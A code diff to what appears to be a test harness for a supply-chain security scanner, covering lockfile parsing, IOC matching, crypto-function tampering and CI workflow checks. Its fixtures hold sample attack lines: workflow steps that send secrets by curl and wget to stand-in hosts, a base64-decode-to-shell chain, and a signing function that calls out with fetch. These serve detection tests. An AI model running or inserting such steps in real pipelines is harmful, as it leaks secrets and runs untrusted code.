@@ -147,12 +147,22 @@ def _iocs(s):
     return MF.indicators(_texts(s, [("iocs.json", IOCS)]))
 
 
+LOCK_NAMES = ["package-lock.json", "yarn.lock", "pnpm-lock.yaml", "pnpm-lock.yml", "other", "npm-shrinkwrap.json", "yarn.lock.bak", "lock"]
+LOCK_BEGINS = ["{", "  {", "__metadata:", "x@npm:1", "# a", ""]
+
+
+def _formats(s, d):
+    o = table(s, d, "orders")
+    content = F.concat(pick(LOCK_BEGINS, "o_orderkey div 8"), "o_orderstatus")
+    return o.select("o_orderkey", L.lockfile_format(F.concat(F.lit("x/"), pick(LOCK_NAMES, "o_orderkey")), content).alias("format"))
+
+
 def _crypto(s, d):
-    """Two versions of every file; the later one of every third calls out."""
-    f = files(s, d).where("id % 2 = 0").withColumn("path", F.concat(F.lit("c"), F.col("id").cast("string"), F.lit(".js"))).withColumn("package", F.concat("package", F.lit("#"), F.col("id").cast("string")))
-    body = F.lit("function sign(a) { return a; }")
+    """Two versions of every file, its text before a signing function; the later one of every third calls out."""
+    f = files(s, d).withColumn("path", F.concat(F.lit("c"), F.col("id").cast("string"), F.lit(".js"))).withColumn("package", F.concat("package", F.lit("#"), F.col("id").cast("string")))
+    body = F.concat("content", F.lit("\nfunction sign(a) { return a; }"))
     old = f.select("package", F.lit("1").alias("version"), "path", body.alias("content"))
-    new = f.select("package", F.lit("2").alias("version"), "path", F.when(F.col("id") % 3 == 0, F.lit("function sign(a) { fetch('http://x'); return a; }")).otherwise(body).alias("content"))
+    new = f.select("package", F.lit("2").alias("version"), "path", F.when(F.col("id") % 3 == 0, F.concat("content", F.lit("\nfunction sign(a) { fetch('http://x'); return a; }"))).otherwise(body).alias("content"))
     order = f.select("package", F.lit("2").alias("version"), F.lit("1").alias("previous"))
     return X.crypto_tamper(old.unionByName(new), order, ["sign", "verify"])
 
@@ -188,8 +198,8 @@ def _stored(s, d):
     from uuid import uuid4
 
     path = f"{scratch.folder(s)}/store-{uuid4().hex}"
-    sc = scans(s, d).where("scan_id % 50 = 1").select("scan_id", F.col("package").cast("string").alias("package"), F.col("scanned_at").cast("timestamp").alias("scanned_at"))
-    f = _findings(s, d).where("scan_id % 50 = 1").select("scan_id", "finding_id", F.when(F.col("finding_id") % 2 == 0, F.col("atk_id")).alias("title"), "description")
+    sc = scans(s, d).select("scan_id", F.col("package").cast("string").alias("package"), F.col("scanned_at").cast("timestamp").alias("scanned_at"))
+    f = _findings(s, d).select("scan_id", "finding_id", F.when(F.col("finding_id") % 2 == 0, F.col("atk_id")).alias("title"), "description")
     store.save_scans(sc, f, path)
     return s.read.parquet(f"{path}/findings").groupBy("scan_id").agg(F.count("*").alias("findings"), F.min("description").alias("first"))
 
@@ -239,23 +249,16 @@ QUERIES = {
     "registry_versions": _merge,
     "extension_changes": _changes,
     "activation_severity": _one(EVENTS, "v", G.activation_severity),
-    "spoofed_orgs": lambda s, d: G.spoofed_orgs(files(s, d), s.createDataFrame([("google",), ("openai",)], "target string")).withColumn("score", F.round("score", 4)),
     "size_budget": lambda s, d: G.size_budget(table(s, d, "part").select("p_partkey", (F.col("p_size") * 20_000_000).alias("length"))),
-    "ioc_rows": lambda s, d: _iocs(s).withColumn("malicious_versions", F.array_join("malicious_versions", ",")),
     "ioc_by_name": lambda s, d: I.by_name(packages(s, d).select("package", "version"), _iocs(s)).select("package", "version", "wave"),
     "ioc_by_scope": lambda s, d: I.by_scope(packages(s, d).select("package", "version"), _iocs(s)).select("package", "version", "value"),
     "ioc_integrity": lambda s, d: I.by_integrity(_attested(s, d), _attested(s, d).where("o_orderkey % 17 = 0")).select("o_orderkey", "package"),
     "crypto_tamper": _crypto,
-    "lockfile_formats": lambda s, d: _texts(s, LOCKS).select("path", L.lockfile_format(F.col("path"), F.col("content")).alias("format")),
-    "lockfile_npm": lambda s, d: L.npm_packages(_texts(s, LOCKS[:1])).select("path", "name", F.col("at").alias("place"), "version", "integrity", F.col("dev").cast("string").alias("dev"), F.col("optional").cast("string").alias("optional")),
-    "lockfile_yarn": lambda s, d: L.yarn_packages(_texts(s, LOCKS[1:2])),
+    "lockfile_formats": _formats,
     "lockfile_pnpm": lambda s, d: L.pnpm_packages(_texts(s, LOCKS[2:3])),
-    "lockfile_totals": lambda s, d: L.lockfile_totals(L.npm_packages(_texts(s, LOCKS[:1]))),
-    "lockfile_graph": lambda s, d: L.graph_rules(L.npm_packages(_texts(s, LOCKS[:1]))),
     "python_manifests": lambda s, d: MF.python_requirements(_texts(s, MANIFESTS)),
     "bad_host_campaign": lambda s, d: C.bad_host_requirements(MF.python_requirements(_texts(s, MANIFESTS))),
     "workflow_steps": lambda s, d: MF.workflow_steps(_texts(s, FLOWS)).select("path", "job", "step", "run", F.concat_ws(",", F.map_values("env")).alias("env")),
-    "workflow_exfiltration": lambda s, d: MF.workflow_exfiltration(MF.workflow_steps(_texts(s, FLOWS))),
     "packed_archives": _packed,
     "store_round_trip": _stored,
 }
@@ -318,16 +321,12 @@ n AS (SELECT *, row_number() OVER w AS no, max(size) OVER w - min(size) OVER w >
 SELECT extension, version, CASE WHEN no = 1 THEN '' ELSE array_to_string(list_sort(list_filter(ev, lambda e: NOT list_contains(seen, e))), ',') END AS new_events, size_delta FROM n""",
     "activation_severity": "SELECT o_orderkey, " + pick_sql(["critical", "high", "", "high", "", "high", "low", "high", "", "", "high", ""], "o_orderkey").join(["nullif(", ", '')"]) + " AS value FROM orders",
     "size_budget": "SELECT p_partkey, p_size * 20000000 AS length FROM part WHERE p_size <= 25",
-    "ioc_rows": _values([(None, "packageName", "lib7", "1.14.1"), (None, "packageScope", "@corp/", ""), ("w2", "packageName", "core11", ""), ("w2", "hash", "ff", "")], "wave, type, value, malicious_versions"),
     "ioc_by_name": WITH + "SELECT package, version, CASE package WHEN 'core11' THEN 'w2' END AS wave FROM packages WHERE package = 'core11' OR (package = 'lib7' AND version = '1.14.1')",
     "ioc_by_scope": WITH + "SELECT package, version, '@corp/' AS value FROM packages WHERE starts_with(package, '@corp/')",
-    "crypto_tamper": WITH + "SELECT package || '#' || CAST(id AS VARCHAR) AS package, '2' AS version, 'sign' AS name, 85 AS score, 'high' AS severity FROM files WHERE id % 6 = 0",
-    "lockfile_formats": _values([("x/package-lock.json", "npm"), ("x/yarn.lock", "yarn"), ("x/pnpm-lock.yaml", "pnpm"), ("x/other", "npm"), ("x/odd", "yarn"), ("x/none", None)], "path, format"),
-    "lockfile_npm": _values([("x/package-lock.json", "a", "node_modules/a", "1.0.0", "sha512-AAEC", "true", None), ("x/package-lock.json", "@s/b", "node_modules/@s/b", "2.0.0", None, None, "true"), ("x/package-lock.json", "c", "node_modules/a/node_modules/c", "3.1.0", None, None, None)], "path, name, place, version, integrity, dev, optional"),
-    "lockfile_yarn": _values([("x/yarn.lock", "a", "1.0.2", "https://registry.npmjs.org/a/-/a-1.0.2.tgz", "sha512-xx"), ("x/yarn.lock", "@s/b", "2.1.0", None, None)], "path, name, version, resolved, integrity"),
+    "crypto_tamper": WITH + "SELECT package || '#' || CAST(id AS VARCHAR) AS package, '2' AS version, 'sign' AS name, 85 AS score, 'high' AS severity FROM files WHERE id % 3 = 0",
+    "lockfile_formats": f"""WITH t AS (SELECT o_orderkey, {pick_sql(LOCK_NAMES, 'o_orderkey')} AS n, {pick_sql(LOCK_BEGINS, 'o_orderkey // 8')} || o_orderstatus AS c FROM orders)
+SELECT o_orderkey, CASE WHEN n = 'yarn.lock' THEN 'yarn' WHEN n IN ('pnpm-lock.yaml', 'pnpm-lock.yml') THEN 'pnpm' WHEN ends_with(n, '.json') THEN 'npm' WHEN starts_with(ltrim(c), '{{') THEN 'npm' WHEN contains(c, '__metadata') OR contains(c, '@npm:') THEN 'yarn' END AS format FROM t""",
     "lockfile_pnpm": _values([("x/pnpm-lock.yaml", "a", "1.0.0", "sha512-q"), ("x/pnpm-lock.yaml", "@s/b", "2.0.0", "sha512-r")], "path, name, version, integrity"),
-    "lockfile_totals": _values([("x/package-lock.json", 3, 1, 1)], "path, total, dev, optional"),
-    "lockfile_graph": _values([("x/package-lock.json", "@s/b", "high")], "path, name, severity"),
     "python_manifests": _values([
         ("p/requirements.txt", "starlette", "==", "0.9.1"), ("p/requirements.txt", "fastapi", ">=", "0.100"), ("p/requirements.txt", "requests", None, None), ("p/pyproject.toml", "starlette", ">=", "1.0.1"), ("p/pyproject.toml", "httpx", "==", "0.2"),
         ("q/pyproject.toml", "python", "^", "3.9"), ("q/pyproject.toml", "starlette", "^", "0.8.0"), ("q/poetry.lock", "starlette", "==", "1.2.0"), ("r/Pipfile", "starlette", None, None), ("r/setup.py", "starlette", "~=", "0.20"), ("r/setup.py", "uvicorn", None, None),
@@ -336,11 +335,9 @@ SELECT extension, version, CASE WHEN no = 1 THEN '' ELSE array_to_string(list_so
     "workflow_steps": _values([
         ("a/.github/workflows/ci.yml", "t", 0, 'curl -d "$T" https://x.example', "${{ secrets.NPM }}"), ("a/.github/workflows/ci.yml", "t", 1, "echo fine", "${{ secrets.NPM }}"), ("b/.github/workflows/x.yaml", "d", 0, "echo aGk= | base64 -d | sh", ""),
         ("c/.github/workflows/bad.yml", None, 0, "wget $SECRET_KEY http://y.example", "")], "path, job, step, run, env"),
-    "workflow_exfiltration": _values([("a/.github/workflows/ci.yml", "t", 0, "secret_exfiltration"), ("b/.github/workflows/x.yaml", "d", 0, "decode_chain"), ("c/.github/workflows/bad.yml", None, 0, "secret_exfiltration")], "path, job, step, kind"),
     "packed_archives": """SELECT CAST(r_regionkey AS VARCHAR) || '.tgz' AS archive, 'package.json' AS path, CAST(2 AS BIGINT) AS size, sha256('{}') AS sha256 FROM region
 UNION ALL SELECT CAST(r_regionkey AS VARCHAR) || '.tgz', 'lib/' || lower(r_name) || '.js', strlen(r_name), sha256(r_name) FROM region""",
-    "store_round_trip": _F + "SELECT scan_id, count(*) AS findings, min(CASE WHEN finding_id % 2 = 0 THEN atk_id ELSE description END) AS first FROM f WHERE scan_id % 50 = 1 AND scan_id IN (SELECT scan_id FROM scans) GROUP BY scan_id",
-    "spoofed_orgs": WITH + "SELECT DISTINCT package, 'gooogle' AS org, 'bert' AS model, 'google' AS target, round(jaro_winkler_similarity('gooogle', 'google'), 4) AS score FROM files WHERE contains(content, 'gooogle/bert')",
+    "store_round_trip": _F + "SELECT scan_id, count(*) AS findings, min(CASE WHEN finding_id % 2 = 0 THEN atk_id ELSE description END) AS first FROM f WHERE scan_id IN (SELECT scan_id FROM scans) GROUP BY scan_id",
 }
 
 _RULED = """, g AS (SELECT *, {0} AS url_domain, package % 9 IN (3, 5) AS trusted FROM f),
